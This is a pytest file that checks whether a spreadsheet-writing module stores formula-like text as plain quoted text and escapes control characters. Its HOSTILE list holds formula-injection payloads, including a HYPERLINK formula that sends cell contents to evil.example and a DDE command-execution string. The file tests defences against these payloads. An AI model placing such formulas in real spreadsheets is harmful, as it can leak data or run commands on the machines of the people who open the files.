"""`jiuye.core.xlsx`: a text a spreadsheet could take as a formula is written as text, and reads back as typed."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from python_calamine import CalamineWorkbook

from jiuye.core.xlsx import xlsx_row, xlsx_set

# OWASP's CSV-injection starts, and the payloads the tester sent (issue 15).
HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]  # fmt: skip


def written(write_only: bool, values: list) -> bytes:
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("表") if write_only else workbook.active
    sheet.append(xlsx_row(sheet, values))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_like_text_reads_back_as_the_same_text(write_only):
    content = written(write_only, HOSTILE)

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert [cell.value for cell in sheet[1]] == HOSTILE
    assert {cell.data_type for cell in sheet[1]} == {"s"}
    assert all(cell.quotePrefix for cell in sheet[1])  # Excel keeps it text when the cell is edited
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert calamine == [HOSTILE]
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("write_only", [True, False])
def test_control_characters_are_written_as_their_escapes(write_only):
    content = written(write_only, ["张\x0b三", "\x00\x1f", "line\nbreak", 5, None, "普通文字"])

    values = [cell.value for cell in load_workbook(io.BytesIO(content)).worksheets[0][1]]
    assert values[:4] == ["张\\x0b三", "\\x00\\x1f", "line\nbreak", 5]
    assert values[5] == "普通文字"


def test_a_cell_of_an_ordinary_sheet_set_as_text():
    workbook = Workbook()
    cell = xlsx_set(workbook.active["A1"], "=1+1")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
    assert xlsx_set(workbook.active["A2"], "文字").quotePrefix is False
